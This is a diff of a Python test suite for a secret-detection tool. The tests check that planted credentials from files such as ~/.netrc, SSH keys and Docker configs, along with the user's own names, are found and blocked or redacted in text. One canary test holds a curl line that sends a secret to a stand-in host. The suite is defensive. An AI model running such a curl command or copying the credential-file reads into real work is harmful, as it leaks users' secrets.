@@ -16,6 +16,7 @@ from time import monotonic
 import pytest
 
 from sparkgate.policy.finding import Finding, Overrun
+from sparkgate.policy.forms.view import View
 from sparkgate.policy.known.canary import KINDS, CanaryError, make_canary
 from sparkgate.policy.known.choice import chosen, embedded, trust_of
 from sparkgate.policy.known.formats import READERS
@@ -50,6 +51,10 @@ EXAMPLES = {
     "searxng": f"https://sx.corp bearer {VALUE}\n",
     "embedded": f"https://jane:{VALUE}@git.corp\n",
 }
+
+
+def form(text: str) -> View:
+    return View("raw", text)
 
 
 def soon() -> float:
@@ -107,7 +112,7 @@ def test_a_credential_is_known_from_every_file_of_the_table(source: Source, tmp_
     values = KnownValues(KEY, Places(a_home(tmp_path), environ, config=tmp_path / "conf"))
     value = LINE if private else VALUE
     text = f"why is {value} refused"
-    found = values.find(text, soon())
+    found = values.find(form(text), soon())
     assert texts(found, text) == [value] and values.notes == ()
     assert {(one.rule.id, one.rule.cls, one.rule.verdict) for one in found} == {("known-value", "secret", "block")}
 
@@ -120,13 +125,13 @@ def test_a_folder_that_a_variable_moves_is_read_where_it_is(folder: tuple[str, s
     moved = Source(source.path.replace(f"{{{folder[0]}}}", folder[1]), source.format)
     path, environ = place(moved, tmp_path)
     write(path, EXAMPLES[source.format])
-    assert ids(KnownValues(KEY, Places(a_home(tmp_path), environ)).find(VALUE, soon())) == {"known-value"}
+    assert ids(KnownValues(KEY, Places(a_home(tmp_path), environ)).find(form(VALUE), soon())) == {"known-value"}
 
 
 def test_several_paths_in_one_variable_are_all_read(tmp_path: Path) -> None:
     one, two = write(tmp_path / "a", f"token: {VALUE}"), write(tmp_path / "b", f"token: {OTHER}")
     values = KnownValues(KEY, Places(a_home(tmp_path), {"KUBECONFIG": f"{one}:{two}"}))
-    assert len(values.find(f"{VALUE} {OTHER}", soon())) == 2
+    assert len(values.find(form(f"{VALUE} {OTHER}"), soon())) == 2
 
 
 def test_every_format_of_the_table_has_a_reader_and_every_reader_an_example() -> None:
@@ -155,7 +160,7 @@ def test_variables_count_by_their_names_or_because_the_user_names_them(
 ) -> None:
     values = KnownValues(KEY, Places(a_home(tmp_path), {name: value}, env=("MINE_*", "JUST_THIS")))
     hidden = PASSWORD if "://" in value else value
-    assert bool(values.find(f"about {hidden} there", soon())) == taken
+    assert bool(values.find(form(f"about {hidden} there"), soon())) == taken
 
 
 NAMED_FILES = (
@@ -177,19 +182,19 @@ def test_in_a_file_that_the_user_names_words_count_as_well(
     write(tmp_path / "conf" / name, text)
     values = KnownValues(KEY, Places(a_home(tmp_path), config=tmp_path / "conf", files=(name,)))
     for value in taken:
-        assert texts(values.find(f"({value})", soon()), f"({value})") == [value]
+        assert texts(values.find(form(f"({value})"), soon()), f"({value})") == [value]
 
 
 @pytest.mark.parametrize("name", ["~/safe", "~/safe/*.txt", "~/safe/one.txt"])
 def test_the_user_may_name_a_file_a_pattern_or_a_folder(name: str, tmp_path: Path) -> None:
     write(a_home(tmp_path) / "safe" / "one.txt", VALUE)
-    assert KnownValues(KEY, Places(a_home(tmp_path), files=(name,))).find(VALUE, soon())
+    assert KnownValues(KEY, Places(a_home(tmp_path), files=(name,))).find(form(VALUE), soon())
 
 
 def test_a_folder_whose_name_looks_like_a_pattern_is_only_a_folder(tmp_path: Path) -> None:
     home = tmp_path / "[ab]*"
     write(home / ".ssh" / "id_rsa", KEY_FILE)
-    assert KnownValues(KEY, Places(home)).find(LINE, soon())
+    assert KnownValues(KEY, Places(home)).find(form(LINE), soon())
 
 
 # -- which values count
@@ -231,7 +236,7 @@ def test_docker_logins_count_as_pair_and_as_password(tmp_path: Path) -> None:
     write(a_home(tmp_path) / ".docker/config.json", f'{{"auths": {{"nvcr.io": {{"auth": "{encoded}"}}}}}}')
     values = KnownValues(KEY, Places(a_home(tmp_path)))
     for text in (VALUE, login, encoded):
-        assert texts(values.find(text, soon()), text) == [text]
+        assert texts(values.find(form(text), soon()), text) == [text]
 
 
 def test_of_a_private_key_the_lines_that_all_keys_share_are_left_out() -> None:
@@ -253,9 +258,9 @@ def test_what_all_tokens_of_a_kind_begin_with_is_no_part_of_one(tmp_path: Path) 
     header = base64.b64encode(b'{"alg":"HS256","typ":"JWT"}').decode().rstrip("=")
     token = f"{header}.{fill('eyJ{url:60}')}.{fill('{url:43}')}"
     values = known(token, tmp_path=tmp_path)
-    assert not values.find(f"what is {header} in a token", soon())
-    assert texts(values.find(f"<{token}>", soon()), f"<{token}>") == [token]
-    assert values.find(token[-20:], soon())
+    assert not values.find(form(f"what is {header} in a token"), soon())
+    assert texts(values.find(form(f"<{token}>"), soon()), f"<{token}>") == [token]
+    assert values.find(form(token[-20:]), soon())
 
 
 # -- finding
@@ -272,7 +277,7 @@ def test_a_value_is_found_exactly_wherever_it_stands() -> None:
         for _ in range(4):
             before, after = (noise(source, source.randrange(60)) for _ in range(2))
             text = before + value + after
-            spans = {(one.start, one.end) for one in values.find(text, soon())}
+            spans = {(one.start, one.end) for one in values.find(form(text), soon())}
             assert (len(before), len(before) + len(value)) in spans, len(value)
 
 
@@ -287,7 +292,7 @@ def test_nothing_is_found_where_no_value_is(tmp_path: Path) -> None:
     )
     for _ in range(200):
         text = noise(source, source.randrange(300)) + "".join(source.choices(LETTERS, k=source.randrange(200)))
-        found = values.find(text, soon())
+        found = values.find(form(text), soon())
         assert found == []
 
 
@@ -298,40 +303,47 @@ def test_a_part_of_fifteen_characters_of_a_long_value_counts_and_a_shorter_one_d
         for start in range(length - 15):
             for size in (15, 16, 22):
                 part = value[start : start + size]
-                assert texts(values.find(f"é {part} é", soon()), f"é {part} é") == [part]
-            assert not values.find(f"x {value[start : start + 14]} x", soon())
+                assert texts(values.find(form(f"é {part} é"), soon()), f"é {part} é") == [part]
+            assert not values.find(form(f"x {value[start : start + 14]} x"), soon())
 
 
 def test_of_a_short_value_no_part_counts(tmp_path: Path) -> None:
     value = fill("{mixed:23}")
     values = known(value, tmp_path=tmp_path)
-    assert values.find(value, soon()) and not values.find(value[1:], soon()) and not values.find(value[:-1], soon())
+    assert (
+        values.find(form(value), soon())
+        and not values.find(form(value[1:]), soon())
+        and not values.find(form(value[:-1]), soon())
+    )
 
 
 def test_case_counts_and_signs_of_patterns_are_only_signs(tmp_path: Path) -> None:
     values = known("a.*b(c", "Zx9[kQ7]+", tmp_path=tmp_path)
-    assert texts(values.find("say a.*b(c and Zx9[kQ7]+", soon()), "say a.*b(c and Zx9[kQ7]+") == ["a.*b(c", "Zx9[kQ7]+"]
-    assert not values.find("aXXb(c A.*B(C zx9[kq7]+ Zx9kkkQ", soon())
+    assert texts(values.find(form("say a.*b(c and Zx9[kQ7]+"), soon()), "say a.*b(c and Zx9[kQ7]+") == [
+        "a.*b(c",
+        "Zx9[kQ7]+",
+    ]
+    assert not values.find(form("aXXb(c A.*B(C zx9[kq7]+ Zx9kkkQ"), soon())
 
 
 def test_everyday_parts_of_a_long_value_do_not_count(tmp_path: Path) -> None:
     values = known(f"https://user:{VALUE}@localhost:5432/x", "=" * 30 + VALUE, tmp_path=tmp_path)
     for text in ("https://user:pass@localhost:5432/x", "=" * 40, "postgres at localhost:5432/x"):
-        assert not values.find(text, soon())
-    assert values.find(VALUE, soon())
+        assert not values.find(form(text), soon())
+    assert values.find(form(VALUE), soon())
 
 
 def test_no_text_makes_it_raise_and_spans_lie_inside(tmp_path: Path) -> None:
     values = known(VALUE, PASSWORD, "short1", tmp_path=tmp_path)
     for text in ("", "a", "\ud800", "\0" * 50, "\ufdfa" * 9, f"\ud800{VALUE}\udfff", VALUE * 50, PASSWORD[:-1] * 90):
-        for one in values.find(text, soon()):
+        for one in values.find(form(text), soon()):
             assert 0 <= one.start < one.end <= len(text)
-    assert len(values.find(VALUE * 50, soon())) == 50
+    assert len(values.find(form(VALUE * 50), soon())) == 50
 
 
 def test_an_overrun_ends_the_search_without_a_value_in_it(tmp_path: Path) -> None:
     with pytest.raises(Overrun) as raised:
-        known(VALUE, tmp_path=tmp_path).find(VALUE, monotonic() - 1)
+        known(VALUE, tmp_path=tmp_path).find(form(VALUE), monotonic() - 1)
     assert VALUE not in repr(raised.value)
 
 
@@ -347,7 +359,7 @@ def test_a_thousand_values_are_kept_in_three_megabytes(tmp_path: Path) -> None:
 
 
 def test_without_places_nothing_is_known_and_a_short_key_is_refused() -> None:
-    assert KnownValues(KEY).find(VALUE, soon()) == []
+    assert KnownValues(KEY).find(form(VALUE), soon()) == []
     with pytest.raises(ValueError, match="16 bytes"):
         KnownValues(b"short")
 
@@ -388,7 +400,7 @@ def test_no_value_can_be_read_from_what_is_kept(tmp_path: Path) -> None:
         for piece in (secret, secret[:8], secret[3:9]):
             assert not any(piece in one for one in held if isinstance(one, str))
             assert not any(piece.encode() in one for one in held if isinstance(one, (bytes, bytearray)))
-        found = values.find(secret, soon())
+        found = values.find(form(secret), soon())
         assert found and secret not in repr((values, found, values.notes, places)) and "HF_TOKEN" not in repr(places)
         assert not any(secret.encode() in path.read_bytes() for path in state.rglob("*") if path.is_file())
 
@@ -398,7 +410,7 @@ def test_it_is_neither_pickled_nor_copied(tmp_path: Path) -> None:
     for act in (pickle.dumps, copy.copy, copy.deepcopy):
         with pytest.raises(TypeError, match="stay in the process"):
             act(values)
-    assert VALUE.encode() not in pickle.dumps(values.find(VALUE, soon()))
+    assert VALUE.encode() not in pickle.dumps(values.find(form(VALUE), soon()))
 
 
 # -- changes and faults
@@ -407,21 +419,21 @@ def test_it_is_neither_pickled_nor_copied(tmp_path: Path) -> None:
 def test_a_change_of_a_file_counts_from_the_next_refresh(tmp_path: Path) -> None:
     file = a_home(tmp_path) / ".netrc"
     values = KnownValues(KEY, Places(a_home(tmp_path)))
-    assert not values.refresh() and not values.find(VALUE, soon())
+    assert not values.refresh() and not values.find(form(VALUE), soon())
     write(file, f"password {VALUE}")
-    assert values.refresh() and values.find(VALUE, soon()) and not values.refresh()
+    assert values.refresh() and values.find(form(VALUE), soon()) and not values.refresh()
     write(file, f"password {OTHER}")
-    assert values.refresh() and values.find(OTHER, soon()) and not values.find(VALUE, soon())
+    assert values.refresh() and values.find(form(OTHER), soon()) and not values.find(form(VALUE), soon())
     file.unlink()
-    assert values.refresh() and not values.find(OTHER, soon()) and not values.refresh()
+    assert values.refresh() and not values.find(form(OTHER), soon()) and not values.refresh()
 
 
 def test_a_file_that_appears_under_a_pattern_is_read_and_one_that_goes_is_forgotten(tmp_path: Path) -> None:
     values = KnownValues(KEY, Places(a_home(tmp_path)))
     file = write(a_home(tmp_path) / ".ssh/id_new", KEY_FILE)
-    assert values.refresh() and values.find(LINE, soon())
+    assert values.refresh() and values.find(form(LINE), soon())
     file.unlink()
-    assert values.refresh() and not values.find(LINE, soon())
+    assert values.refresh() and not values.find(form(LINE), soon())
 
 
 def test_broken_files_are_noted_by_name_only_and_silence_no_other(tmp_path: Path) -> None:
@@ -436,7 +448,7 @@ def test_broken_files_are_noted_by_name_only_and_silence_no_other(tmp_path: Path
     write(home / ".pypirc", f"password = {PASSWORD}")
     values = KnownValues(KEY, Places(home, files=("~/gone.txt",)))
     for value in (VALUE, OTHER, PASSWORD):
-        assert values.find(value, soon())
+        assert values.find(form(value), soon())
     assert set(values.notes) == {
         "~/.claude.json is no JSON",
         "~/.codex/config.toml is no TOML",
@@ -462,7 +474,7 @@ def test_a_file_with_too_many_values_or_bytes_is_noted(tmp_path: Path) -> None:
 def test_a_finding_says_where_its_value_is_kept_without_the_name_of_the_user(tmp_path: Path) -> None:
     write(a_home(tmp_path) / ".netrc", f"password {VALUE}")
     values = KnownValues(KEY, Places(a_home(tmp_path), {"HF_TOKEN": OTHER}))
-    (one,), (two,) = values.find(VALUE, soon()), values.find(OTHER, soon())
+    (one,), (two,) = values.find(form(VALUE), soon()), values.find(form(OTHER), soon())
     assert "~/.netrc" in one.rule.why and "the environment" in two.rule.why and "qorvath" not in one.rule.why
 
 
@@ -489,7 +501,7 @@ IDENTITIES = (
 
 @pytest.mark.parametrize(("text", "label", "span"), IDENTITIES)
 def test_names_of_the_user_are_found_as_whole_words_in_any_case(text: str, label: str, span: str) -> None:
-    found = [one for one in KnownValues(KEY, ME).find(text, soon()) if one.rule.id == label]
+    found = [one for one in KnownValues(KEY, ME).find(form(text), soon()) if one.rule.id == label]
     assert texts(found, text) == [span] and found[0].rule.verdict == "redact"
     assert found[0].rule.cls == ("pii" if label == "own-name" else "local")
 
@@ -498,7 +510,7 @@ def test_names_of_the_user_are_found_as_whole_words_in_any_case(text: str, label
     "text", ["qorvathian qorvath2 aqorvath", "spark-8f3ab", "/home/qorvathy", "quirin lake", "DGX Spark"]
 )
 def test_parts_of_words_are_not_the_user(text: str) -> None:
-    assert KnownValues(KEY, ME).find(text, soon()) == []
+    assert KnownValues(KEY, ME).find(form(text), soon()) == []
 
 
 NOBODY = "root ubuntu admin runner user user1 spark dgx-spark dgx gb10-2 localhost max will grace qwen vllm al data"
@@ -508,7 +520,7 @@ NOBODY = "root ubuntu admin runner user user1 spark dgx-spark dgx gb10-2 localho
 def test_names_that_say_nothing_of_anybody_are_left_alone(name: str) -> None:
     places = Places(Path(f"/home/{name}"), user=name, full_name=name.title(), host=name, hosts=f"::1 {name}.lan")
     text = f"why does {name} fail in /home/{name} on {name}.lan"
-    assert KnownValues(KEY, places).find(text, soon()) == []
+    assert KnownValues(KEY, places).find(form(text), soon()) == []
 
 
 def test_name_and_address_come_from_git_settings_and_the_files_they_include(tmp_path: Path) -> None:
@@ -524,13 +536,13 @@ def test_name_and_address_come_from_git_settings_and_the_files_they_include(tmp_
     )
     values = KnownValues(KEY, Places(home))
     text = "Q@qlorbix.net quirin horvath quirl nobody special you@example.com"
-    assert {(one.rule.id, text[one.start : one.end]) for one in values.find(text, soon())} == {
+    assert {(one.rule.id, text[one.start : one.end]) for one in values.find(form(text), soon())} == {
         ("own-name", "quirin horvath"),
         ("own-mail", "Q@qlorbix.net"),
         ("own-user", "quirl"),
     }
     write(home / ".gitconfig", "[user]\nname = Zora Kvist\n")
-    assert values.refresh() and ids(values.find(text, soon())) == {"own-user"}
+    assert values.refresh() and ids(values.find(form(text), soon())) == {"own-user"}
 
 
 def test_the_account_is_read_without_asking_a_network(tmp_path: Path) -> None:
@@ -549,7 +561,7 @@ def test_a_canary_is_known_at_once_and_after_a_restart(kind: str, tmp_path: Path
     value = first.make_canary(kind)
     for values in (first, KnownValues(KEY, places)):
         text = f"curl https://x.test/?k={value}"
-        found = values.find(text, soon())
+        found = values.find(form(text), soon())
         assert texts(found, text) == [value] and ids(found) == {"canary"} and found[0].rule.verdict == "block"
     assert value != first.make_canary(kind) and first.count == 2
 
@@ -559,7 +571,7 @@ def test_a_planted_canary_stays_a_canary_although_a_file_of_the_table_holds_it(t
     value = KnownValues(KEY, places).make_canary()
     write(a_home(tmp_path) / ".cache/huggingface/token", value)
     values = KnownValues(KEY, places)
-    assert ids(values.find(value, soon())) == {"canary"} == ids(values.find(value[:20], soon()))
+    assert ids(values.find(form(value), soon())) == {"canary"} == ids(values.find(form(value[:20]), soon()))
 
 
 def test_the_file_of_canaries_is_private_and_a_damaged_line_is_noted(tmp_path: Path) -> None:
@@ -569,7 +581,7 @@ def test_the_file_of_canaries_is_private_and_a_damaged_line_is_noted(tmp_path: P
     with path.open("a") as file:
         file.write('{"kind": "github"}\n[]\nnonsense\n{"kind": "none", "salt": "1", "digest": "2"}\n')
     values = KnownValues(KEY, Places(a_home(tmp_path), state=tmp_path / "state"))
-    assert values.count == 1 and ids(values.find(value, soon())) == {"canary"}
+    assert values.count == 1 and ids(values.find(form(value), soon())) == {"canary"}
     assert values.notes == ("canaries holds a canary that is damaged or was made with another key",)
     assert KnownValues(KEY[::-1], Places(a_home(tmp_path), state=tmp_path / "state")).count == 0
 
